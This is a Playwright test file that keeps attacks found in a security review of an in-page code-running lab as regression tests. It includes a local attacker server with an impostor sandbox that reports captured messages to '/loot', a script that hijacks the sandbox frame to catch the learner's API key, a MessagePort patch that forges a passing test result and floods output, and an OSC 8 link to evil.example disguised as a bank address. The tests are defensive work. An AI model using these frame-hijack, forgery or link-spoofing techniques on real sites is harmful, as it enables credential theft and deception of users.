// Attacks on the in-page runner that a security review found working, kept as
// regression tests: a page that hijacks the sandbox frame to receive the
// learner's key, and lab code that forges or floods the worker's messages.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, expect } from '@playwright/test';
import { labPages } from '../../scripts/lib/lab-pages.ts';
import { freshLabPage, WorkbenchDriver } from './support/workbench.ts';
import { startLocalServer, type LocalServer } from './support/local-servers.ts';

const slug = 'streaming-client';
const path = labPages()[slug];

interface Attacker {
  origin: string;
  /** What the attacker's pages reported home: messages they received from the book. */
  loot: unknown[];
  close(): Promise<void>;
}

/**
 * An attacker's server on another origin of the same site (127.0.0.1, another
 * port). `/sandbox` impersonates the lab sandbox: it answers the handshake as
 * the real sandbox document once did, and reports every message it receives
 * (it sends COEP and CORP, so that the book's isolated page may load it in a
 * frame). `/frame?url=` frames a page of the book.
 */
async function startAttacker(): Promise<Attacker> {
  const loot: unknown[] = [];
  const impostor = `<!doctype html><script>
    const report = (data) => fetch('/loot', { method: 'POST', body: JSON.stringify(data) });
    addEventListener('message', (event) => {
      const port = event.ports[0];
      if (!port) return;
      report({ via: 'window', type: event.data && event.data.type });
      port.onmessage = ({ data }) => {
        report({ via: 'port', data });
        if (data && data.type === 'run') port.postMessage({ type: 'end', exitCode: 0, crashed: false, droppedLines: 0, droppedChars: 0, tests: [] });
      };
      port.postMessage({ type: 'ready' });
    });
    parent.postMessage({ type: 'sandbox-loaded' }, '*');
  </script>`;
  const server: Server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    const url = new URL(request.url ?? '/', 'http://attacker');
    if (url.pathname === '/loot') {
      loot.push(JSON.parse(body));
      return void response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    }
    if (url.pathname === '/sandbox') {
      // Loaded inside the book's isolated page, so it must allow being embedded there.
      response.writeHead(200, { 'content-type': 'text/html', 'cross-origin-embedder-policy': 'require-corp', 'cross-origin-resource-policy': 'cross-origin' });
      return void response.end(impostor);
    }
    // The framing page sends no COEP of its own, so nothing but the book's own headers can stop the frame.
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(`<!doctype html><title>attacker</title><iframe id="book" src="${url.searchParams.get('url') ?? ''}" width="800" height="600"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, loot, close: () => new Promise((resolve) => (server.close(() => resolve()), server.closeAllConnections())) };
}

test.describe('attacks on the in-page sandbox', () => {
  test.skip(!path, `no built page embeds <Lab slug="${slug}"/>`);
  let attacker: Attacker;
  let provider: LocalServer;

  test.beforeEach(async () => {
    attacker = await startAttacker();
    provider = await startLocalServer('answer from the chosen provider');
  });
  test.afterEach(async () => {
    await Promise.all([attacker.close(), provider.close()]);
  });

  test('another origin cannot frame the book', async ({ page, baseURL }) => {
    const book = `${baseURL}${path}`;
    await page.goto(`${attacker.origin}/frame?url=${encodeURIComponent(book)}`);
    const frame = page.frameLocator('#book');
    // A refused frame shows the browser's error page: none of the book's markup arrives.
    await expect(frame.locator('[data-lab-workbench]')).toHaveCount(0);
    await page.waitForTimeout(1_000);
    await expect(frame.locator('[data-lab-workbench]')).toHaveCount(0);
    expect(page.frames().some((candidate) => candidate.url() === book)).toBe(false);
  });

  test('a sandbox frame navigated to another document never receives the run, the files or the key', async ({ page }) => {
    await freshLabPage(page, path ?? '/');
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    await wb.chooseModel({ provider: 'openai-compatible', model: 'fake-model', baseURL: `${provider.origin}/v1`, apiKey: 'sk-never-for-the-attacker' });
    // What the framing page did: the moment a sandbox frame appeared, it navigated it to a document of its own
    // (a top-level page may navigate any frame inside it, whatever its origin), and won the race with the
    // sandbox's own document 5 times in 6. Here the frame gets the other document without a race: the page
    // must tell, from the answers alone, that the document in its frame is not its sandbox.
    await page.evaluate((impostor) => {
      const hijack = (node: Node) => {
        if (!(node instanceof HTMLIFrameElement) || node.title !== 'Lab sandbox') return;
        node.removeAttribute('srcdoc');
        node.src = impostor;
      };
      new MutationObserver((records) => records.forEach((record) => record.addedNodes.forEach(hijack))).observe(document.body, { childList: true });
    }, `${attacker.origin}/sandbox`);
    await wb.selectFile('src/main.ts');
    await wb.replaceCode('console.log("secret-bearing run");\n');
    await wb.button('Run').click();
    await expect(wb.status).toContainText(/sandbox|Crashed|failed|did not/i, { timeout: 30_000 });
    await expect(wb.output).not.toContainText('Exited with code 0');
    // The impostor got nothing that belongs to the learner.
    const stolen = JSON.stringify(attacker.loot);
    expect(stolen).not.toContain('sk-never-for-the-attacker');
    expect(stolen).not.toContain('secret-bearing run');
    expect(attacker.loot.filter((item) => (item as { via: string }).via === 'port')).toEqual([]);
  });

  test('lab code that captures the worker’s port cannot forge a pass or flood the page', async ({ page }) => {
    await freshLabPage(page, path ?? '/');
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    await wb.selectFile('test/sse.test.ts');
    await wb.replaceCode(
      [
        "import { test } from 'node:test';",
        'const original = MessagePort.prototype.postMessage;',
        'let forged = false;',
        'MessagePort.prototype.postMessage = function (this: MessagePort, message: any, ...rest: any[]) {',
        '  const result = original.call(this, message, ...(rest as []));',
        '  if (!forged) {',
        '    forged = true;',
        "    for (let i = 0; i < 400; i++) original.call(this, { type: 'out', stream: 'stdout', text: 'x'.repeat(50_000) });",
        "    original.call(this, { type: 'end', exitCode: 0, crashed: false, droppedLines: 0, droppedChars: 0, tests: [{ name: 'forged', passed: true, durationMs: 1 }] });",
        '  }',
        '  return result;',
        '};',
        "test('a test that really fails', () => { throw new Error('really failing'); });",
      ].join('\n'),
    );
    await wb.button('Test').click();
    await expect(wb.root.locator('.wb-tests-summary')).toContainText(/tests pass|No test results/, { timeout: 60_000 });
    await expect(wb.root.locator('.wb-tests-summary')).not.toContainText(/^1 of 1 tests? pass/);
    await expect(wb.root.locator('.wb-test-fail').filter({ hasText: 'a test that really fails' })).toHaveCount(1);
    await expect(wb.root.locator('.wb-test-pass').filter({ hasText: 'forged' })).toHaveCount(0);
    // 20 MB went nowhere: the panel holds no more than the output cap.
    expect((await wb.output.innerText()).length).toBeLessThan(1_000_000);
    const progress = await page.evaluate(() => localStorage.getItem('ai-roadmap:progress:v1') ?? '');
    expect(progress).not.toContain(slug);
  });

  test('lab output cannot put a link in the page: an OSC 8 hyperlink shows as its text', async ({ page }) => {
    await freshLabPage(page, path ?? '/');
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    await wb.runCode("console.log('\\u001b]8;;https://evil.example/\\u0007https://your-bank.example\\u001b]8;;\\u0007 ok');\n");
    await expect(wb.output).toContainText('https://your-bank.example ok');
    await expect(wb.output.locator('a')).toHaveCount(0);
  });

  test('lab code that floods the page through the usage hook and the test reporter is stopped with a reason', async ({ page }) => {
    await freshLabPage(page, path ?? '/');
    const wb = new WorkbenchDriver(page, slug);
    await wb.open();
    await wb.runCode(
      [
        'const hook = (globalThis as any).__aiRoadmapUsage;',
        "for (let i = 0; i < 1_000_000; i++) hook({ provider: 'p'.repeat(100), modelId: 'm', inputTokens: 1, outputTokens: 1 });",
        "console.log('flooded');",
      ].join('\n'),
    );
    await expect(wb.status).toContainText(/Stopped/);
    await expect(wb.output).toContainText(/too many messages/i);
    // The page answers: another run works.
    await wb.runCode('console.log("still usable");\n');
    await expect(wb.output).toContainText('still usable');
  });
});
